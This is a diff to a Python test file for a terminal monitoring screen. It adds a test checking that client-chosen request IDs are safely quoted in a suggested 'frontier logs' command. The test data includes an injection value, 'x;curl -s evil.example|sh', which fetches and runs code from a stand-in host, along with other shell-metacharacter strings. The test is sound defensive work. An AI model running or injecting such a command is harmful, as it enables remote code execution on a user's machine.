@@ -1,6 +1,8 @@
 """The screen of `frontier top`, driven by keys at every size."""
 
 import asyncio
+import re
+import shlex
 import threading
 from collections.abc import Callable, Coroutine
 from typing import Any
@@ -12,7 +14,7 @@ from textual.widgets import Input
 from frontier.cli.top_app import TopApp
 from frontier.cli.top_pages import Page
 from frontier.cli.top_panel import Panel
-from frontier.domain.top import TopView
+from frontier.domain.top import Failure, TopView
 from top_views import look
 
 SIZES = [(60, 20), (80, 24), (120, 40), (200, 50)]
@@ -239,7 +241,7 @@ def test_letters_that_are_keys_can_be_typed_into_the_filter() -> None:
     [
         (("1", "enter"), ("1,073,741,824 bytes", "first token p50")),
         (("2", "enter"), ("frontier logs llamacpp", "150 %")),
-        (("4", "enter"), ("grep req_0", "/v1/embeddings")),
+        (("4", "enter"), ("frontier logs gateway --grep req_0", "/v1/embeddings")),
         (("m",), ("NVIDIA H200", "93 %")),
     ],
 )
@@ -252,6 +254,29 @@ def test_enter_and_m_show_all_that_is_known(keys: tuple[str, ...], words: tuple[
         await pilot.press("escape")
 
     drive(act, size=(110, 40))
+
+
+@pytest.mark.parametrize(
+    "chosen", ["x;curl -s evil.example|sh", "'$(x)'`x`\\", "[/b] [red].*", "-f"]
+)
+def test_an_id_that_a_client_chose_is_one_word_of_the_command(chosen: str) -> None:
+    looks, notes = Looks(), list[str]()
+    looks.view = look(errors=(Failure(time="", route="/v1/x", status=404, request_id=chosen),))
+
+    async def act(app: TopApp, pilot: Pilot[int]) -> None:
+        await pilot.press("4", "enter")
+        await pilot.pause()
+        assert isinstance(app.screen, Page)
+        assert chosen in (app.screen.query_one("#page").border_title or "").replace("\\[", "[")
+        notes.append(app.screen._note)
+
+    drive(act, looks=looks)
+
+    _, _, command = notes[0].partition(": ")
+    *words, pattern = shlex.split(command)
+    assert words == ["frontier", "logs", "gateway", "--grep"]
+    assert re.fullmatch(pattern, chosen)
+    assert not pattern.startswith("-")
 
 
 def test_t_goes_through_the_themes_and_the_screen_stays_whole() -> None:
